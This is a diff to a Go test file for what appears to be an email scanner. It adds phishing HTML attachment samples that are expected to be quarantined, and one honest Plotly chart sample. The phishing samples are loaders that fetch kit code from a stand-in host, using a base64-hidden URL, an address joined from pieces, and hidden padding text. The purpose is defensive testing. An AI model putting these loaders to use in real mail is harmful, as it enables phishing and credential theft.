@@ -191,6 +191,17 @@ func htmlPhishCases() []officeCase {
 			"Wire_Confirmation.html", "<html><head><style>html,body{margin:0;height:100%;overflow:hidden}</style></head><body>\r\n<iframe src=\"https://landing.example.net/signin/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:none\"></iframe>\r\n</body></html>\r\n", "html-redirect-attachment"),
 		quarantine("html-redirect-written-refresh", "HTML attachment whose script writes a meta refresh to a remote page with document.write(unescape(...))",
 			"Order_Details.html", "<html><body><script>document.write(unescape(\""+percentEncoded(`<meta http-equiv="refresh" content="0;url=https://landing.example.net/order/">`)+"\"));</script></body></html>\r\n", "html-redirect-attachment"),
+		// Loaders: the page shows nothing of its own and draws the kit from
+		// its server, so neither the form nor its link is in the file.
+		quarantine("html-loader-script-src", "HTML attachment with nothing of its own but hidden padding, whose page is drawn by a script from the kit's server",
+			"Remittance_Advice.html", "<html><head><title>Remittance advice</title></head><body><div id=\"root\">Loading...</div>\r\n<div style=\"display: none\">"+strings.Repeat("<p>Remittance advice for invoice 4471, payment of 12 November.</p>", 12)+"</div>\r\n"+
+				"<script src=\"https://landing.example.net/kit/app.js?e=kenji@corp.example.jp\"></script></body></html>\r\n", "html-redirect-attachment"),
+		quarantine("html-loader-fetch-write", "HTML attachment whose script fetches the kit's page from an address in base64 and writes it over itself",
+			"Payment_Confirmation.html", "<html><body><p>Loading your document...</p>\r\n<script>\r\nfetch(atob(\""+base64.StdEncoding.EncodeToString([]byte("https://landing.example.net/kit/page"))+"\"))\r\n"+
+				"  .then(function (r) { return r.text(); })\r\n  .then(function (h) { document.open(); document.write(h); document.close(); });\r\n</script></body></html>\r\n", "html-redirect-attachment"),
+		quarantine("html-loader-script-element", "HTML attachment whose script builds a script element whose address is joined from pieces",
+			"Purchase_Order.html", "<html><body>\r\n<script>\r\nvar s = document.createElement(\"script\");\r\n"+
+				"s.src = [\"https:\", \"\", \"landing.example.net\", \"kit\", \"po.js\"].join(\"/\");\r\ndocument.head.appendChild(s);\r\n</script></body></html>\r\n", "html-redirect-attachment"),
 	}, append(htmlFoldCases(), htmlKitCases()...)...)
 }
 
@@ -208,7 +219,8 @@ func htmlCase(name, about, file, data string, ids ...string) officeCase {
 // htmlPhishClean are the honest HTML attachments beside them: a saved
 // receipt, a newsletter saved as a page with a video and buttons, an
 // exported report with a feedback form to the sender's own site and an
-// analytics call, and a body with a sign-in link.
+// analytics call, a chart that loads its library from a CDN, and a body
+// with a sign-in link.
 func htmlPhishClean() []Sample {
 	ok := func(name, about string) Sample { return Sample{Name: name, Clean: true, About: about} }
 	var out []Sample
@@ -254,6 +266,11 @@ func htmlPhishClean() []Sample {
 			text("You have received a secure message. Open the attachment securedoc_20270115T101503.html to read it.\n"),
 			attach("text/html; charset=utf-8", "securedoc_20270115T101503.html", []byte(secureEnvelope("honest", envelopeAction,
 				`  this.action = "https://res.cisco.com/websafe/" + "openEnvelope?keyId=" + this.keyId.value;`+"\r\n"))))})
+	add(ok("html-exported-chart", "a chart exported as .html that loads its library (Plotly) from the library's CDN and shows no text of its own"),
+		mail{subject: "Sales chart", root: multipart("mixed", text("The chart from today's meeting.\n"),
+			attach("text/html; charset=utf-8", "sales-chart.html", []byte("<html><head><meta charset=\"utf-8\"></head><body><div id=\"plot\" style=\"height:100%\"></div>\r\n"+
+				"<script src=\"https://cdn.plot.ly/plotly-2.35.2.min.js\"></script>\r\n"+
+				"<script>Plotly.newPlot(\"plot\", [{\"x\": [\"Q1\", \"Q2\", \"Q3\", \"Q4\"], \"y\": [120, 135, 128, 160], \"type\": \"bar\"}]);</script></body></html>\r\n")))})
 	add(ok("html-body-login-link", "an HTML body asking the reader to sign in by a link to the sender's own site"),
 		mail{subject: "Your account", root: html(`<p>Dear customer,</p><p>your statement is ready. <a href="https://shop.example.com/account/login">Sign in to your account</a> to read it.</p><p>Example Shop</p>`)})
 	return append(append(out, htmlFoldClean()...), htmlKitClean()...)
